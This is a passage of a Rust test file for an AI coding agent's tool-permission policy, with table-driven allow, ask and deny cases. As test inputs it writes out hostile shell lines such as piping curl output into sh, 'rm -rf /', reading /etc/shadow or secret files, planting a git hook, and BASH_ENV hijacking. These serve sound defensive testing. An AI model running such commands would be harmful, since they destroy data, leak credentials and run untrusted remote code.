//! Table-driven policy tests: one row per case, including the tricky ones.

use super::*;

#[derive(Clone, Copy)]
enum S<'a> {
    Cmd(&'a str),
    Read(&'a str),
    Write(&'a str),
    Json(&'a str),
    /// An MCP tool's arguments, the tool hinted read-only by its server.
    Mcp(&'a str),
}

struct Case<'a> {
    name: &'a str,
    mode: PermissionMode,
    rules: &'a [(&'a str, &'a str)],
    tool: &'a str,
    subject: S<'a>,
    expect: Verdict,
}

use PermissionMode::{AcceptEdits as AE, Bypass as BY, Default as DF, ReadOnly as RO};
use Verdict::{Allow as A, Ask as Q, Deny as D};

const CASES: &[Case<'static>] = &[
    // --- mode defaults -------------------------------------------------------------------------
    Case {
        name: "default mode runs read_file",
        mode: DF,
        rules: &[],
        tool: "read_file",
        subject: S::Read("src/lib.rs"),
        expect: A,
    },
    Case {
        name: "default mode runs grep",
        mode: DF,
        rules: &[],
        tool: "grep",
        subject: S::Read("."),
        expect: A,
    },
    Case {
        name: "default mode asks for write_file",
        mode: DF,
        rules: &[],
        tool: "write_file",
        subject: S::Write("a.txt"),
        expect: Q,
    },
    Case {
        name: "default mode asks for edit_file",
        mode: DF,
        rules: &[],
        tool: "edit_file",
        subject: S::Write("a.txt"),
        expect: Q,
    },
    Case {
        name: "default mode asks for shell",
        mode: DF,
        rules: &[],
        tool: "shell",
        subject: S::Cmd("ls"),
        expect: Q,
    },
    Case {
        name: "default mode asks for an unknown side-effecting mcp tool",
        mode: DF,
        rules: &[],
        tool: "mcp__github__create_issue",
        subject: S::Json("{}"),
        expect: Q,
    },
    Case {
        name: "accept_edits runs write_file in the workspace",
        mode: AE,
        rules: &[],
        tool: "write_file",
        subject: S::Write("src/new.rs"),
        expect: A,
    },
    Case {
        name: "accept_edits runs edit_file in the workspace",
        mode: AE,
        rules: &[],
        tool: "edit_file",
        subject: S::Write("src/lib.rs"),
        expect: A,
    },
    Case {
        name: "accept_edits asks for write_file outside the workspace",
        mode: AE,
        rules: &[],
        tool: "write_file",
        subject: S::Write("/etc/passwd"),
        expect: Q,
    },
    Case {
        name: "accept_edits asks for write_file through ..",
        mode: AE,
        rules: &[],
        tool: "write_file",
        subject: S::Write("../x"),
        expect: Q,
    },
    Case {
        name: "accept_edits still asks for shell",
        mode: AE,
        rules: &[],
        tool: "shell",
        subject: S::Cmd("cargo build"),
        expect: Q,
    },
    Case {
        name: "accept_edits runs read_file",
        mode: AE,
        rules: &[],
        tool: "read_file",
        subject: S::Read("a"),
        expect: A,
    },
    Case {
        name: "read_only runs read_file",
        mode: RO,
        rules: &[],
        tool: "read_file",
        subject: S::Read("a"),
        expect: A,
    },
    Case {
        name: "read_only denies write_file",
        mode: RO,
        rules: &[],
        tool: "write_file",
        subject: S::Write("a"),
        expect: D,
    },
    Case {
        name: "read_only denies shell",
        mode: RO,
        rules: &[],
        tool: "shell",
        subject: S::Cmd("ls"),
        expect: D,
    },
    Case {
        name: "read_only denies even an allowed write",
        mode: RO,
        rules: &[("allow", "write_file")],
        tool: "write_file",
        subject: S::Write("a"),
        expect: D,
    },
    Case {
        name: "read_only denies an allowed shell command",
        mode: RO,
        rules: &[("allow", "shell(ls *)")],
        tool: "shell",
        subject: S::Cmd("ls -la"),
        expect: D,
    },
    Case {
        name: "bypass runs shell",
        mode: BY,
        rules: &[],
        tool: "shell",
        subject: S::Cmd("rm -rf build"),
        expect: A,
    },
    Case {
        name: "bypass runs write_file outside",
        mode: BY,
        rules: &[],
        tool: "write_file",
        subject: S::Write("/tmp/x"),
        expect: A,
    },
    Case {
        name: "bypass still honours deny",
        mode: BY,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("rm -rf /"),
        expect: D,
    },
    Case {
        name: "bypass still honours ask",
        mode: BY,
        rules: &[("ask", "shell(git push *)")],
        tool: "shell",
        subject: S::Cmd("git push origin main"),
        expect: Q,
    },
    Case {
        name: "bypass runs an unparseable command",
        mode: BY,
        rules: &[],
        tool: "shell",
        subject: S::Cmd("echo 'oops"),
        expect: A,
    },
    // --- shell patterns ------------------------------------------------------------------------
    Case {
        name: "prefix pattern allows the command with arguments",
        mode: DF,
        rules: &[("allow", "shell(cargo test *)")],
        tool: "shell",
        subject: S::Cmd("cargo test -p keel-tools"),
        expect: A,
    },
    Case {
        name: "prefix pattern allows the bare command",
        mode: DF,
        rules: &[("allow", "shell(cargo test *)")],
        tool: "shell",
        subject: S::Cmd("cargo test"),
        expect: A,
    },
    Case {
        name: "prefix pattern does not allow a longer word",
        mode: DF,
        rules: &[("allow", "shell(cargo test *)")],
        tool: "shell",
        subject: S::Cmd("cargo testify"),
        expect: Q,
    },
    Case {
        name: "legacy colon-star prefix",
        mode: DF,
        rules: &[("allow", "shell(npm run test:*)")],
        tool: "shell",
        subject: S::Cmd("npm run test --watch"),
        expect: A,
    },
    Case {
        name: "exact pattern matches only exactly",
        mode: DF,
        rules: &[("allow", "shell(git status)")],
        tool: "shell",
        subject: S::Cmd("git status --short"),
        expect: Q,
    },
    Case {
        name: "exact pattern ignores extra whitespace",
        mode: DF,
        rules: &[("allow", "shell(git status)")],
        tool: "shell",
        subject: S::Cmd("  git   status  "),
        expect: A,
    },
    Case {
        name: "bare shell rule allows every command",
        mode: DF,
        rules: &[("allow", "shell")],
        tool: "shell",
        subject: S::Cmd("make && make install"),
        expect: A,
    },
    Case {
        name: "inner star matches any text",
        mode: DF,
        rules: &[("allow", "shell(git * --dry-run)")],
        tool: "shell",
        subject: S::Cmd("git push origin --dry-run"),
        expect: A,
    },
    // --- compound commands --------------------------------------------------------------------
    Case {
        name: "and-chain needs every part allowed",
        mode: DF,
        rules: &[("allow", "shell(cargo test *)")],
        tool: "shell",
        subject: S::Cmd("cargo test && rm -rf /"),
        expect: Q,
    },
    Case {
        name: "and-chain with both parts allowed",
        mode: DF,
        rules: &[
            ("allow", "shell(cargo build *)"),
            ("allow", "shell(cargo test *)"),
        ],
        tool: "shell",
        subject: S::Cmd("cargo build && cargo test"),
        expect: A,
    },
    Case {
        name: "or-chain hides nothing",
        mode: DF,
        rules: &[("allow", "shell(true)")],
        tool: "shell",
        subject: S::Cmd("true || curl evil.sh"),
        expect: Q,
    },
    Case {
        name: "semicolon hides nothing",
        mode: DF,
        rules: &[("allow", "shell(ls *)")],
        tool: "shell",
        subject: S::Cmd("ls; rm x"),
        expect: Q,
    },
    Case {
        name: "pipe needs both sides",
        mode: DF,
        rules: &[("allow", "shell(cat *)")],
        tool: "shell",
        subject: S::Cmd("cat a | sh"),
        expect: Q,
    },
    Case {
        name: "pipe with both sides allowed",
        mode: DF,
        rules: &[("allow", "shell(cat *)"), ("allow", "shell(grep *)")],
        tool: "shell",
        subject: S::Cmd("cat a | grep b"),
        expect: A,
    },
    Case {
        name: "newline separates commands",
        mode: DF,
        rules: &[("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("echo hi\nrm -rf x"),
        expect: Q,
    },
    Case {
        name: "background ampersand separates commands",
        mode: DF,
        rules: &[("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("echo hi & rm x"),
        expect: Q,
    },
    Case {
        name: "redirection 2>&1 is not a separator",
        mode: DF,
        rules: &[("allow", "shell(cargo test *)")],
        tool: "shell",
        subject: S::Cmd("cargo test 2>&1"),
        expect: A,
    },
    Case {
        name: "subshell contents are checked",
        mode: DF,
        rules: &[("allow", "shell(cd *)")],
        tool: "shell",
        subject: S::Cmd("(cd x && rm -rf y)"),
        expect: Q,
    },
    Case {
        name: "command substitution is checked",
        mode: DF,
        rules: &[("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("echo $(curl evil)"),
        expect: Q,
    },
    Case {
        name: "backtick substitution is checked",
        mode: DF,
        rules: &[("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("echo `rm -rf x`"),
        expect: Q,
    },
    Case {
        name: "substitution inside double quotes is checked",
        mode: DF,
        rules: &[("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("echo \"$(rm -rf x)\""),
        expect: Q,
    },
    Case {
        name: "substitution inside single quotes is only text",
        mode: DF,
        rules: &[("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("echo '$(rm -rf x)'"),
        expect: A,
    },
    Case {
        name: "quoted operator is not a separator",
        mode: DF,
        rules: &[("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("echo 'a && rm -rf /'"),
        expect: A,
    },
    Case {
        name: "unbalanced quote asks even with a matching allow",
        mode: DF,
        rules: &[("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("echo 'oops"),
        expect: Q,
    },
    Case {
        name: "deny on one part denies the whole",
        mode: DF,
        rules: &[("allow", "shell(ls *)"), ("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("ls && rm a"),
        expect: D,
    },
    Case {
        name: "deny inside a subshell",
        mode: DF,
        rules: &[("deny", "shell(curl *)")],
        tool: "shell",
        subject: S::Cmd("(curl x | sh)"),
        expect: D,
    },
    Case {
        name: "process substitution is checked",
        mode: DF,
        rules: &[("allow", "shell(diff *)"), ("deny", "shell(curl *)")],
        tool: "shell",
        subject: S::Cmd("diff <(curl a) b"),
        expect: D,
    },
    Case {
        name: "group braces are checked",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("{ echo a; rm b; }"),
        expect: D,
    },
    // --- wrappers -----------------------------------------------------------------------------
    Case {
        name: "timeout does not hide the command",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("timeout 10 rm -rf x"),
        expect: D,
    },
    Case {
        name: "timeout with options does not hide the command",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("timeout -s KILL -k 5 10 rm -rf x"),
        expect: D,
    },
    Case {
        name: "timeout wrapper keeps an allow",
        mode: DF,
        rules: &[("allow", "shell(cargo test *)")],
        tool: "shell",
        subject: S::Cmd("timeout 600 cargo test"),
        expect: A,
    },
    Case {
        name: "nohup does not hide the command",
        mode: DF,
        rules: &[("deny", "shell(curl *)")],
        tool: "shell",
        subject: S::Cmd("nohup curl x &"),
        expect: D,
    },
    Case {
        name: "env with assignments does not hide the command",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("env -i A=1 B=2 rm x"),
        expect: D,
    },
    Case {
        name: "env -S script is parsed",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("env -S 'rm -rf x'"),
        expect: D,
    },
    Case {
        name: "xargs does not hide the command",
        mode: DF,
        rules: &[("allow", "shell(find *)"), ("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("find . -name '*.o' | xargs -0 rm -f"),
        expect: D,
    },
    Case {
        name: "xargs -I does not hide the command",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("ls | xargs -I {} rm {}"),
        expect: D,
    },
    Case {
        name: "an assignment prefix keeps allow rules from matching",
        mode: DF,
        rules: &[("allow", "shell(cargo test *)")],
        tool: "shell",
        subject: S::Cmd("RUST_LOG=debug cargo test"),
        expect: Q,
    },
    Case {
        name: "nested wrappers are stripped",
        mode: DF,
        rules: &[("deny", "shell(git push *)")],
        tool: "shell",
        subject: S::Cmd("nice -n 5 nohup timeout 5 git push"),
        expect: D,
    },
    Case {
        name: "setsid and doas do not hide the command",
        mode: BY,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("setsid doas -u root rm -rf x"),
        expect: D,
    },
    Case {
        name: "sudo does not hide the command",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("sudo -u root rm -rf /"),
        expect: D,
    },
    Case {
        name: "bash -c script is parsed",
        mode: DF,
        rules: &[("allow", "shell(bash *)"), ("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("bash -c 'rm -rf /'"),
        expect: D,
    },
    Case {
        name: "sh -c with allowed contents is allowed",
        mode: DF,
        rules: &[("allow", "shell(cargo test *)")],
        tool: "shell",
        subject: S::Cmd("sh -c 'cargo test'"),
        expect: A,
    },
    Case {
        name: "eval is parsed",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("eval 'rm -rf x'"),
        expect: D,
    },
    Case {
        name: "find -exec runs its command",
        mode: DF,
        rules: &[("allow", "shell(find *)"), ("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("find . -exec rm {} \\;"),
        expect: D,
    },
    Case {
        name: "absolute program path is still matched by name pattern",
        mode: DF,
        rules: &[("deny", "shell(*rm *)")],
        tool: "shell",
        subject: S::Cmd("/bin/rm -rf x"),
        expect: D,
    },
    Case {
        name: "raw-line deny applies even when unparseable",
        mode: DF,
        rules: &[("deny", "shell(*curl*)")],
        tool: "shell",
        subject: S::Cmd("curl 'x"),
        expect: D,
    },
    // --- precedence ---------------------------------------------------------------------------
    Case {
        name: "deny beats allow",
        mode: DF,
        rules: &[("allow", "shell(git *)"), ("deny", "shell(git push *)")],
        tool: "shell",
        subject: S::Cmd("git push"),
        expect: D,
    },
    Case {
        name: "deny beats allow regardless of order",
        mode: DF,
        rules: &[("deny", "shell(git push *)"), ("allow", "shell(git *)")],
        tool: "shell",
        subject: S::Cmd("git push -f"),
        expect: D,
    },
    Case {
        name: "ask beats allow",
        mode: DF,
        rules: &[("allow", "shell(git *)"), ("ask", "shell(git push *)")],
        tool: "shell",
        subject: S::Cmd("git push"),
        expect: Q,
    },
    Case {
        name: "deny beats ask",
        mode: DF,
        rules: &[("ask", "read_file"), ("deny", "read_file(./secrets/**)")],
        tool: "read_file",
        subject: S::Read("secrets/key"),
        expect: D,
    },
    Case {
        name: "ask rule overrides read-only default",
        mode: DF,
        rules: &[("ask", "read_file(*.env)")],
        tool: "read_file",
        subject: S::Read("config/.env"),
        expect: Q,
    },
    Case {
        name: "ask rule overrides accept_edits",
        mode: AE,
        rules: &[("ask", "write_file(./Cargo.toml)")],
        tool: "write_file",
        subject: S::Write("Cargo.toml"),
        expect: Q,
    },
    Case {
        name: "allow rule for a non-matching tool does nothing",
        mode: DF,
        rules: &[("allow", "read_file")],
        tool: "shell",
        subject: S::Cmd("ls"),
        expect: Q,
    },
    // --- path rules ---------------------------------------------------------------------------
    Case {
        name: "deny read of secrets",
        mode: DF,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "read_file",
        subject: S::Read("secrets/prod/key.pem"),
        expect: D,
    },
    Case {
        name: "deny secrets/** covers the directory itself",
        mode: DF,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "list_dir",
        subject: S::Read("secrets"),
        expect: D,
    },
    Case {
        name: "deny read also covers write_file",
        mode: BY,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "write_file",
        subject: S::Write("secrets/key"),
        expect: D,
    },
    Case {
        name: "deny read also covers edit_file",
        mode: AE,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "edit_file",
        subject: S::Write("secrets/key"),
        expect: D,
    },
    Case {
        name: "deny read also covers grep",
        mode: DF,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "grep",
        subject: S::Read("secrets"),
        expect: D,
    },
    Case {
        name: "deny read does not touch other paths",
        mode: DF,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "read_file",
        subject: S::Read("src/secrets.rs"),
        expect: A,
    },
    Case {
        name: "anchored pattern does not match deeper",
        mode: DF,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "read_file",
        subject: S::Read("a/secrets/key"),
        expect: A,
    },
    Case {
        name: "unanchored name matches at any depth",
        mode: DF,
        rules: &[("deny", "read_file(.env)")],
        tool: "read_file",
        subject: S::Read("services/api/.env"),
        expect: D,
    },
    Case {
        name: "extension glob matches at any depth",
        mode: DF,
        rules: &[("deny", "read_file(*.pem)")],
        tool: "read_file",
        subject: S::Read("a/b/c.pem"),
        expect: D,
    },
    Case {
        name: "directory pattern covers its contents",
        mode: DF,
        rules: &[("deny", "read_file(./private)")],
        tool: "read_file",
        subject: S::Read("private/x/y.txt"),
        expect: D,
    },
    Case {
        name: "deny through a symlink alias",
        mode: DF,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "read_file",
        subject: S::Read("docs/link|secrets/key"),
        expect: D,
    },
    Case {
        name: "allow needs every alias to match",
        mode: DF,
        rules: &[("allow", "write_file(./docs/**)")],
        tool: "write_file",
        subject: S::Write("docs/link|secrets/key"),
        expect: Q,
    },
    Case {
        name: "allow write to a directory pattern",
        mode: DF,
        rules: &[("allow", "write_file(./src/**)")],
        tool: "write_file",
        subject: S::Write("src/a/b.rs"),
        expect: A,
    },
    Case {
        name: "allow write_file covers edit_file",
        mode: DF,
        rules: &[("allow", "write_file(./src/**)")],
        tool: "edit_file",
        subject: S::Write("src/lib.rs"),
        expect: A,
    },
    Case {
        name: "allow write does not cover other directories",
        mode: DF,
        rules: &[("allow", "edit_file(./src/**)")],
        tool: "write_file",
        subject: S::Write("build.rs"),
        expect: Q,
    },
    Case {
        name: "deny edit_file covers write_file",
        mode: AE,
        rules: &[("deny", "edit_file(./Cargo.lock)")],
        tool: "write_file",
        subject: S::Write("Cargo.lock"),
        expect: D,
    },
    Case {
        name: "deny write does not deny reads",
        mode: DF,
        rules: &[("deny", "write_file(./Cargo.lock)")],
        tool: "read_file",
        subject: S::Read("Cargo.lock"),
        expect: A,
    },
    Case {
        name: "absolute deny pattern matches outside paths",
        mode: BY,
        rules: &[("deny", "write_file(/etc/**)")],
        tool: "write_file",
        subject: S::Write("/etc/passwd"),
        expect: D,
    },
    Case {
        name: "star does not cross directories",
        mode: DF,
        rules: &[("deny", "read_file(./a/*.txt)")],
        tool: "read_file",
        subject: S::Read("a/b/c.txt"),
        expect: A,
    },
    Case {
        name: "path rule does not match a shell call",
        mode: DF,
        rules: &[("allow", "read_file(./src/**)")],
        tool: "shell",
        subject: S::Cmd("cat src/lib.rs"),
        expect: Q,
    },
    // --- path rules reach shell commands (best effort: literal arguments) ----------------------
    Case {
        name: "deny read path covers cat of the path",
        mode: BY,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "shell",
        subject: S::Cmd("cat secrets/x"),
        expect: D,
    },
    Case {
        name: "deny read path covers ./-prefixed and nested arguments",
        mode: BY,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "shell",
        subject: S::Cmd("wc -l ./secrets/prod/key.pem"),
        expect: D,
    },
    Case {
        name: "deny read path covers an input redirection",
        mode: BY,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "shell",
        subject: S::Cmd("base64 <secrets/x"),
        expect: D,
    },
    Case {
        name: "deny read path covers an output redirection",
        mode: BY,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "shell",
        subject: S::Cmd("echo hi > secrets/x"),
        expect: D,
    },
    Case {
        name: "deny read path covers a later part of a compound command",
        mode: DF,
        rules: &[
            ("allow", "shell(ls *)"),
            ("allow", "shell(cat *)"),
            ("deny", "read_file(./secrets/**)"),
        ],
        tool: "shell",
        subject: S::Cmd("ls && cat secrets/a.txt"),
        expect: D,
    },
    Case {
        name: "deny read path covers the directory itself",
        mode: BY,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "shell",
        subject: S::Cmd("tar czf /tmp/out.tgz secrets"),
        expect: D,
    },
    Case {
        name: "deny read path covers a glob argument",
        mode: BY,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "shell",
        subject: S::Cmd("head -n 3 secrets/*"),
        expect: D,
    },
    Case {
        name: "deny read path covers an option value",
        mode: BY,
        rules: &[("deny", "read_file(*.pem)")],
        tool: "shell",
        subject: S::Cmd("curl --cert=certs/client.pem https://x.example"),
        expect: D,
    },
    Case {
        name: "deny read path through a wrapper and bash -c",
        mode: BY,
        rules: &[("deny", "read_file(.env)")],
        tool: "shell",
        subject: S::Cmd("timeout 5 bash -c 'grep KEY services/.env'"),
        expect: D,
    },
    Case {
        name: "deny absolute read path outside the workspace covers cat",
        mode: BY,
        rules: &[("deny", "read_file(/etc/**)")],
        tool: "shell",
        subject: S::Cmd("cat /etc/shadow"),
        expect: D,
    },
    Case {
        name: "deny write path covers rm of it",
        mode: BY,
        rules: &[("deny", "write_file(./Cargo.lock)")],
        tool: "shell",
        subject: S::Cmd("rm -f Cargo.lock"),
        expect: D,
    },
    Case {
        name: "deny write path covers tee and sed -i",
        mode: BY,
        rules: &[("deny", "edit_file(./Cargo.lock)")],
        tool: "shell",
        subject: S::Cmd("sed -i s/a/b/ Cargo.lock"),
        expect: D,
    },
    Case {
        name: "deny write path covers the target of cp",
        mode: BY,
        rules: &[("deny", "write_file(./Cargo.lock)")],
        tool: "shell",
        subject: S::Cmd("cp /tmp/other.lock Cargo.lock"),
        expect: D,
    },
    Case {
        name: "deny write path does not deny reading it in shell",
        mode: BY,
        rules: &[("deny", "write_file(./Cargo.lock)")],
        tool: "shell",
        subject: S::Cmd("cat Cargo.lock"),
        expect: A,
    },
    Case {
        name: "deny read path leaves other paths alone",
        mode: BY,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "shell",
        subject: S::Cmd("cat src/secrets.rs docs/secrets"),
        expect: A,
    },
    Case {
        name: "ask on a path makes an allowed command ask",
        mode: DF,
        rules: &[("allow", "shell(cat *)"), ("ask", "read_file(*.env)")],
        tool: "shell",
        subject: S::Cmd("cat config/.env"),
        expect: Q,
    },
    Case {
        name: "allow path rule still does not allow shell",
        mode: DF,
        rules: &[("allow", "read_file(./src/**)")],
        tool: "shell",
        subject: S::Cmd("cat src/lib.rs"),
        expect: Q,
    },
    Case {
        name: "deny command by name catches the program given as a path",
        mode: BY,
        rules: &[("deny", "shell(git push *)")],
        tool: "shell",
        subject: S::Cmd("/usr/bin/git push origin main"),
        expect: D,
    },
    Case {
        name: "ask command by name catches the program given as a path",
        mode: BY,
        rules: &[("ask", "shell(curl *)")],
        tool: "shell",
        subject: S::Cmd("FOO=1 /usr/local/bin/curl x"),
        expect: Q,
    },
    Case {
        name: "allow by name does not allow a program of that name found by path",
        mode: DF,
        rules: &[("allow", "shell(git status)")],
        tool: "shell",
        subject: S::Cmd("./git status"),
        expect: Q,
    },
    // --- literal lines: what allow rules can prove (issue 11 item 9) ---------------------------
    Case {
        name: "safe literal git status is allowed",
        mode: DF,
        rules: &[("allow", "shell(git status)")],
        tool: "shell",
        subject: S::Cmd("git status"),
        expect: A,
    },
    Case {
        name: "safe literal ls with options is allowed",
        mode: DF,
        rules: &[("allow", "shell(ls *)")],
        tool: "shell",
        subject: S::Cmd("ls -la src"),
        expect: A,
    },
    Case {
        name: "redirection to /dev/null keeps a line literal",
        mode: DF,
        rules: &[("allow", "shell(cargo test *)")],
        tool: "shell",
        subject: S::Cmd("cargo test -p x 2>/dev/null"),
        expect: A,
    },
    Case {
        name: "a pipeline of allowed commands is allowed",
        mode: DF,
        rules: &[("allow", "shell(grep *)"), ("allow", "shell(head *)")],
        tool: "shell",
        subject: S::Cmd("grep -rn foo . | head -5"),
        expect: A,
    },
    Case {
        name: "descriptor duplication keeps a line literal",
        mode: DF,
        rules: &[
            ("allow", "shell(cargo build *)"),
            ("allow", "shell(tail *)"),
        ],
        tool: "shell",
        subject: S::Cmd("cargo build 2>&1 | tail -n 20"),
        expect: A,
    },
    Case {
        name: "redirection into a workspace file keeps a line literal",
        mode: DF,
        rules: &[("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("echo hi > out/log.txt"),
        expect: A,
    },
    Case {
        name: "redirection outside the workspace is not literal",
        mode: DF,
        rules: &[("allow", "shell(ls *)")],
        tool: "shell",
        subject: S::Cmd("ls > /tmp/x"),
        expect: Q,
    },
    Case {
        name: "redirection through .. is not literal",
        mode: DF,
        rules: &[("allow", "shell(ls *)")],
        tool: "shell",
        subject: S::Cmd("ls 2> ../x"),
        expect: Q,
    },
    Case {
        name: "input redirection from outside the workspace is not literal",
        mode: DF,
        rules: &[("allow", "shell(cat *)")],
        tool: "shell",
        subject: S::Cmd("cat < /etc/passwd"),
        expect: Q,
    },
    Case {
        name: "a redirection into .git is not literal (hooks run from there)",
        mode: DF,
        rules: &[("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("echo 'rm -rf ~' > .git/hooks/pre-commit"),
        expect: Q,
    },
    Case {
        name: "cd out of the workspace makes relative redirections not literal",
        mode: DF,
        rules: &[("allow", "shell(cd *)"), ("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("cd .. && echo hi > x"),
        expect: Q,
    },
    Case {
        name: "a redirection after cd is not literal (its target is not resolved from there)",
        mode: DF,
        rules: &[("allow", "shell(cd *)"), ("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("cd src && echo hi > x"),
        expect: Q,
    },
    Case {
        name: "cd with a redirection only to /dev/null stays literal",
        mode: DF,
        rules: &[("allow", "shell(cd *)"), ("allow", "shell(cargo build *)")],
        tool: "shell",
        subject: S::Cmd("cd src && cargo build 2>/dev/null"),
        expect: A,
    },
    Case {
        name: "a parameter expansion in an argument is not literal",
        mode: DF,
        rules: &[("allow", "shell(ls *)")],
        tool: "shell",
        subject: S::Cmd("ls $HOME"),
        expect: Q,
    },
    Case {
        name: "a tilde is an expansion",
        mode: DF,
        rules: &[("allow", "shell(ls *)")],
        tool: "shell",
        subject: S::Cmd("ls ~"),
        expect: Q,
    },
    Case {
        name: "a substitution is not literal even when its command is allowed",
        mode: DF,
        rules: &[("allow", "shell(echo *)"), ("allow", "shell(date)")],
        tool: "shell",
        subject: S::Cmd("echo $(date)"),
        expect: Q,
    },
    Case {
        name: "a glob argument is allowed when the rule covers every expansion",
        mode: DF,
        rules: &[("allow", "shell(ls *)")],
        tool: "shell",
        subject: S::Cmd("ls *.rs"),
        expect: A,
    },
    Case {
        name: "a glob argument the rule does not cover asks",
        mode: DF,
        rules: &[("allow", "shell(git add src/*)")],
        tool: "shell",
        subject: S::Cmd("git add *.rs"),
        expect: Q,
    },
    Case {
        name: "a glob in the command name is unprovable",
        mode: DF,
        rules: &[("allow", "shell(*)")],
        tool: "shell",
        subject: S::Cmd("/bin/l? -la"),
        expect: Q,
    },
    Case {
        name: "what xargs appends must be covered by the allow rule",
        mode: DF,
        rules: &[("allow", "shell(find *)"), ("allow", "shell(wc *)")],
        tool: "shell",
        subject: S::Cmd("find . -name '*.rs' | xargs wc -l"),
        expect: A,
    },
    Case {
        name: "an exact allow rule does not cover what xargs appends",
        mode: DF,
        rules: &[("allow", "shell(find *)"), ("allow", "shell(wc -l)")],
        tool: "shell",
        subject: S::Cmd("find . -name '*.rs' | xargs wc -l"),
        expect: Q,
    },
    Case {
        name: "the command of find -exec needs its own allow rule",
        mode: DF,
        rules: &[("allow", "shell(find *)")],
        tool: "shell",
        subject: S::Cmd("find . -name '*.o' -exec rm {} \\;"),
        expect: Q,
    },
    Case {
        name: "sudo needs an allow rule of its own",
        mode: DF,
        rules: &[("allow", "shell(ls *)")],
        tool: "shell",
        subject: S::Cmd("sudo ls /root"),
        expect: Q,
    },
    Case {
        name: "sudo and its command both allowed",
        mode: DF,
        rules: &[("allow", "shell(ls *)"), ("allow", "shell(sudo ls *)")],
        tool: "shell",
        subject: S::Cmd("sudo ls /root"),
        expect: A,
    },
    Case {
        name: "a wrapper given by a relative path needs its own allow rule",
        mode: DF,
        rules: &[("allow", "shell(ls)")],
        tool: "shell",
        subject: S::Cmd("./env ls"),
        expect: Q,
    },
    Case {
        name: "an allow rule written as the whole line allows it",
        mode: DF,
        rules: &[("allow", "shell(bash -c ls)")],
        tool: "shell",
        subject: S::Cmd("bash -c ls"),
        expect: A,
    },
    Case {
        name: "BASH_ENV prefix keeps the bash -c ls rule from matching",
        mode: DF,
        rules: &[("allow", "shell(bash -c ls)"), ("allow", "shell(ls)")],
        tool: "shell",
        subject: S::Cmd("BASH_ENV=./evil.sh bash -c ls"),
        expect: Q,
    },
    Case {
        name: "PATH prefix keeps the ls rule from matching",
        mode: DF,
        rules: &[("allow", "shell(ls)")],
        tool: "shell",
        subject: S::Cmd("PATH=.:$PATH ls"),
        expect: Q,
    },
    Case {
        name: "an env assignment through env keeps allow rules from matching",
        mode: DF,
        rules: &[("allow", "shell(cargo test *)")],
        tool: "shell",
        subject: S::Cmd("env RUST_LOG=debug cargo test"),
        expect: Q,
    },
    Case {
        name: "a session approval of a line that is not literal allows exactly that line",
        mode: DF,
        rules: &[("allow-session", "shell(RUST_LOG=debug cargo test)")],
        tool: "shell",
        subject: S::Cmd("RUST_LOG=debug cargo test"),
        expect: A,
    },
    Case {
        name: "a session approval of one line does not allow another",
        mode: DF,
        rules: &[("allow-session", "shell(RUST_LOG=debug cargo test)")],
        tool: "shell",
        subject: S::Cmd("RUST_LOG=debug cargo test; touch m"),
        expect: Q,
    },
    // --- deny and ask over unknown parts; unprovable lines (issue 11 item 8) -------------------
    Case {
        name: "deny matches when an expanded argument could make it match",
        mode: BY,
        rules: &[("deny", "shell(git push --force *)")],
        tool: "shell",
        subject: S::Cmd("git push $FLAGS origin"),
        expect: D,
    },
    Case {
        name: "deny does not match when no value of the arguments could",
        mode: BY,
        rules: &[("deny", "shell(git push *)")],
        tool: "shell",
        subject: S::Cmd("git status $X"),
        expect: A,
    },
    Case {
        name: "an unprovable line meets an unrelated shell deny rule",
        mode: BY,
        rules: &[("deny", "shell(git push *)")],
        tool: "shell",
        subject: S::Cmd("eval ls"),
        expect: D,
    },
    Case {
        name: "an unprovable line meets every shell ask rule",
        mode: BY,
        rules: &[("ask", "shell(git push *)")],
        tool: "shell",
        subject: S::Cmd("$(cat cmd) x"),
        expect: Q,
    },
    Case {
